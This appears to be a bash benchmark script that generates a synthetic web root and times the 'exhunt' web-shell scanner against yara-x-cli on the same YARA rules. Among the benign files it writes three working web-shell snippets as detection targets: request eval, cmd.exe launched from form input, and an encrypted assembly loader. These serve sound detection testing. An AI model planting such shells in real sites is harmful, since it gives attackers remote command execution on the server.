#!/usr/bin/env bash
# File-scan benchmark: a generated web root of >= 20,000 files (mostly benign pages, scripts
# and images, a few synthetic shells written here) scanned by exhunt's file hunter and by
# `yr` (yara-x-cli) with the same embedded YARA rules. Goal: exhunt <= 1.0x yr's wall time.
# Usage: bench/files.sh [FILES]   (default 20000). Results: bench/out/files-results.md.
set -euo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")/.."
n="${1:-20000}"
export CARGO_TARGET_DIR="${CARGO_TARGET_DIR:-$PWD/target}"
tools="$CARGO_TARGET_DIR/bench-tools"
if [ ! -x "$tools/bin/yr" ]; then
    cargo install yara-x-cli --locked --root "$tools"
fi
yr="$tools/bin/yr"
cargo build -q --release -p exhunt
exhunt="$CARGO_TARGET_DIR/release/exhunt"
mkdir -p bench/out
if [ -n "${FILES_BENCH_DIR:-}" ]; then
    work="$FILES_BENCH_DIR"; rm -rf "$work"; mkdir -p "$work"   # kept for profiling
else
    work="$(mktemp -d)"; trap 'rm -rf "$work"' EXIT
fi
root="$work/EX01/C"
web="$root/inetpub/wwwroot"
mkdir -p "$root/Windows/System32" "$web"
python3 - "$web" "$n" <<'PY'
import os, random, sys
web, n = sys.argv[1], int(sys.argv[2])
random.seed(7)
words = "order customer invoice report product list detail edit view search account".split()
def page(i):
    w = random.sample(words, 3)
    body = "\n".join(f'<asp:Label runat="server" ID="l{j}" Text="<%# Eval(\\"{random.choice(words)}\\") %>" />' for j in range(random.randint(5, 60)))
    return f'<%@ Page Language="C#" MasterPageFile="~/Site.master" CodeBehind="{w[0]}.aspx.cs" Inherits="Shop.{w[0].title()}{i}" %>\n<asp:Content runat="server">\n{body}\n</asp:Content>\n'
def script(i):
    return "".join(f"function f{i}_{j}(a){{ return a.{random.choice(words)} + {j}; }}\n" for j in range(random.randint(10, 200)))
def css(i):
    return "".join(f".c{i}_{j} {{ margin: {j}px; color: #{random.randrange(16**6):06x}; }}\n" for j in range(random.randint(10, 150)))
def image(i):
    return b"\x89PNG\r\n\x1a\n" + os.urandom(random.randint(500, 40000))
kinds = [("aspx", page, "w"), ("js", script, "w"), ("css", css, "w"), ("png", image, "wb"), ("html", page, "w")]
for i in range(n):
    d = os.path.join(web, f"app{i % 40}", f"sub{(i // 40) % 25}")
    os.makedirs(d, exist_ok=True)
    ext, gen, mode = kinds[i % len(kinds)]
    with open(os.path.join(d, f"f{i}.{ext}"), mode) as f:
        f.write(gen(i))
# A few synthetic shells (written for this benchmark; same idioms as the tests).
shells = {
    "aspnet_client/system_web/zxcvbnmq.aspx": '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>',
    "app3/sub4/x.ashx": '<%@ WebHandler Language="C#" Class="H" %>\npublic class H { void P(System.Web.HttpContext c){ System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c.Request.Form["a"])); } }',
    "app7/sub1/l.aspx": '<%@ Page Language="C#" %><script runat="server">void Page_Load(){ byte[] c = Request.BinaryRead(Request.ContentLength); System.Reflection.Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("P").Equals(this); }</script>',
}
for rel, text in shells.items():
    p = os.path.join(web, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    open(p, "w").write(text)
PY
files=$(find "$root" -type f | wc -l)
bytes=$(du -sb "$root" | cut -f1)
# The same YARA rules for yr: the embedded pack with the hunter's external variables.
rules="$work/rules.yar"; : > "$rules"
for f in rules/files/*.yar; do cat "$f" >> "$rules"; echo >> "$rules"; done
defs=(--define 'filename=""' --define 'filepath=""' --define 'extension=""' --define 'filetype=""'
      --define 'exhunt_area="web"' --define exhunt_depth=0 --define exhunt_stock=false --define exhunt_webpage=true)
sync
echo "files: $files, bytes: $bytes"
t() { local s e; s=$(date +%s.%N); "$@" > "$work/out.txt" 2> "$work/err.txt" || true; e=$(date +%s.%N); echo "$e - $s" | bc; }
scan_exhunt() { "$exhunt" scan "$work" --threads 2 --quiet --no-events --no-exposure --jsonl "$work/exhunt.jsonl"; }
scan_yr() { "$yr" scan --threads 2 --recursive "${defs[@]}" "$rules" "$root"; }
# For reference: yr with the rules compiled beforehand (`yr compile`), which skips the ~40 ms
# of compilation every run of exhunt and of `yr` on source rules pays.
"$yr" compile "${defs[@]}" -o "$work/rules.yarc" "$rules" > /dev/null
scan_yrc() { "$yr" scan --threads 2 --recursive -C "$work/rules.yarc" "$root"; }
scan_yr > /dev/null 2>&1 || true; scan_exhunt || true   # warm the page cache
# Interleaved runs (yr, exhunt, yr, ...) so that a noisy moment hits both; the median of each.
runs="${RUNS:-7}"
ys=(); es=(); cs=()
for run in $(seq "$runs"); do
    ty=$(t scan_yr); te=$(t scan_exhunt); tc=$(t scan_yrc)
    ys+=("$ty"); es+=("$te"); cs+=("$tc")
    echo "run $run: yr ${ty}s, exhunt ${te}s, yr -C ${tc}s"
done
med() { printf '%s\n' "$@" | sort -n | sed -n "$(( ($# + 1) / 2 ))p"; }
Y=$(med "${ys[@]}"); E=$(med "${es[@]}"); C=$(med "${cs[@]}")
shells_exhunt=$(python3 -c 'import json,sys; print(len({o["path"] for o in map(json.loads, open(sys.argv[1])) if o.get("kind")=="finding" and o.get("source")=="files"}))' "$work/exhunt.jsonl")
shells_yr=$(scan_yr 2>/dev/null | awk '{print $2}' | sort -u | wc -l)
{
    echo "### File scan: exhunt vs yr (yara-x-cli), same YARA rules"
    echo
    echo "Web root: $files files, $((bytes / 1000000)) MB (generated, 3 synthetic shells), 2 threads, hot page cache, median of $runs interleaved runs ($(date -u +%Y-%m-%dT%H:%MZ))."
    echo
    echo "| tool | median wall (s) | files flagged |"
    echo "|---|---:|---:|"
    echo "| yr scan --threads 2 --recursive | $Y | $shells_yr |"
    echo "| exhunt scan (YARA + name rules + hashes + config checks) | $E | $shells_exhunt |"
    echo "| **exhunt / yr** | **$(echo "scale=2; $E / $Y" | bc)×** | |"
    echo "| for reference: yr scan -C (rules compiled beforehand) | $C | |"
    echo "| exhunt / yr -C | $(echo "scale=2; $E / $C" | bc)× | |"
    echo
    echo "Goal: exhunt ≤ 1.0× yr. exhunt runs the page-scope rules (rules/files/webpages.yar, every"
    echo "condition starting with \`exhunt_webpage and\`) on server-side pages only; yr runs every"
    echo "rule on every file. Both flag the same files."
} | tee bench/out/files-results.md
